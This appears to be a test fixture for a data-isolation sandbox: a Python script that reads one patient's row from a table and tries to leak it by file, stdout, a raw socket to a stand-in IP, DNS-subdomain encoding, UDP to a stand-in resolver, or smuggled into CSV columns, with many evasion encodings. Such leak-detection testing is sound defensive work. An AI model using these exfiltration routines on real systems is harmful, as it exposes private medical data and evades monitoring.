"""A foreign program over the same tables. It tries to carry one patient's row out, by the way that its argument names.

It says nothing of how it went: what left is looked for from outside. Where the way itself is shut it ends with the
number of the error, so that a test sees which one."""

import base64
import csv
import gzip
import io
import json
import socket
import sys
import urllib.parse
import zipfile
import zlib


def zipped(data):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("row", data)
    return file.getvalue()


def raw_deflate(data):
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(data) + packer.flush()


def wide(data):
    return "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in data.decode()).encode()


ENCODINGS = {
    "verbatim": lambda data: data,
    "percent": lambda data: "".join(f"%{byte:02x}" for byte in data).encode(),
    "base64": base64.b64encode,
    "base32": base64.b32encode,
    "hexadecimal": lambda data: data.hex().encode(),
    "escapes": lambda data: "".join(f"\\u{ord(letter):04x}" for letter in data.decode()).encode(),
    "utf-16": lambda data: data.decode().encode("utf-16-le"),
    "full-width": wide,
    "gzip": gzip.compress,
    "zlib": zlib.compress,
    "deflate": raw_deflate,
    "zip": zipped,
    "base64 of gzip": lambda data: base64.b64encode(gzip.compress(data)),
    "percent of base64": lambda data: urllib.parse.quote(base64.b64encode(data), safe="").encode(),
    "hexadecimal of zip": lambda data: zipped(data).hex().encode(),
}


def row():
    with open("/input/patients", encoding="utf-8") as table:
        return next(csv.DictReader(table))


def main(way, encoding="verbatim"):
    stolen = row()
    text = "\n".join(f"{name}: {value}" for name, value in stolen.items()).encode()
    data = ENCODINGS[encoding](text)
    if way == "file":
        with open("/output/data.bin", "wb") as out:
            out.write(data)
    elif way == "stdout":
        sys.stdout.buffer.write(data)
    elif way == "network":
        with socket.create_connection(("198.51.100.7", 443), timeout=5) as to:
            to.sendall(data)
    elif way == "dns":
        socket.getaddrinfo(base64.b32encode(text)[:40].decode().lower() + ".example.org", 443)
    elif way == "dns-packet":
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data[:200], ("192.0.2.53", 53))
    elif way == "column":
        with open("/output/counts.csv", "w", encoding="utf-8") as out:
            out.write("chapter,patients,note\nIX Circulatory system,1," + json.dumps(stolen["patient"]) + "\n")
    elif way == "value":
        with open("/output/counts.csv", "w", encoding="utf-8") as out:
            out.write("chapter,patients\n" + stolen.get("name", stolen["patient"]) + ",1\n")


if __name__ == "__main__":
    try:
        main(*sys.argv[1:])
    except OSError as error:
        sys.exit(error.errno if error.errno and 0 < error.errno < 125 else 99)
